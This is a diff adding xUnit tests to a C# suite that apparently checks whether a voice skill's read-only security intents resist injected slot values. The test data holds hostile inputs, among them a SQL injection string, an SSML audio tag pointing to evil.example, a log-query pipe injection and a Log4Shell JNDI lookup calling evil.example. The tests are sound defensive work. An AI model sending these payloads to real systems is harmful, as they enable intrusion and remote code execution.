@@ -140,6 +140,41 @@ public sealed class SlotAbuseTests
         Assert.Null((string?)reply.Directive("Dialog.ElicitSlot")!["updatedIntent"]!["slots"]!["SecurityCode"]!["value"]);
     }
 
+    public static TheoryData<string, string> ReadOnlyCases()
+    {
+        var data = new TheoryData<string, string>();
+        foreach (var intent in new[] { "ScanResultsIntent", "PatchDryRunIntent", "BlockedTrafficIntent", "IsolationStatusIntent", "PatchStatusIntent" })
+            foreach (var heard in new[] { "web-1' OR '1'='1", "</speak><audio src=\"https://evil.example/a.mp3\"/><speak>", "eni-0\"] | stats count(*)", "${jndi:ldap://evil.example/a}", new string('A', 10_000) })
+                data.Add(intent, heard);
+        return data;
+    }
+
+    [Theory]
+    [MemberData(nameof(ReadOnlyCases))]
+    public async Task HandleAsync_WhenAReadOnlyIntentCarriesAnInjection_AnswersAndChangesNothing(string intent, string heard)
+    {
+        using var h = new HostileHarness();
+
+        var reply = await h.Driver.SendAsync(HostileHarness.Say(intent, ("InstanceName", heard)));
+
+        h.AssertSafe(reply);
+        Assert.DoesNotContain("<audio", reply.Ssml);
+        Assert.Empty(h.Http.CallsOf("logs:StartQuery"));
+    }
+
+    [Fact]
+    public async Task Control_BlockedTrafficOfTheIsolatedInstanceReadsTheFlowLogsWithoutChangingAnything()
+    {
+        using var h = new HostileHarness();
+
+        var reply = await h.Driver.SendAsync(HostileHarness.Say("BlockedTrafficIntent", ("InstanceName", HostileHarness.Isolated)));
+
+        h.AssertSafe(reply);
+        Assert.StartsWith("Since web-2 was isolated 24 hours ago, its flow logs show 12 blocked connections.", reply.Speech);
+        var query = Assert.Single(h.Http.CallsOf("logs:StartQuery"));
+        Assert.Contains(h.InterfacesOf(HostileHarness.Isolated).Single(), query.Body);
+    }
+
     [Fact]
     public async Task HandleAsync_WhenASlotValueIsAnObjectInsteadOfText_ActsOnNothing()
     {
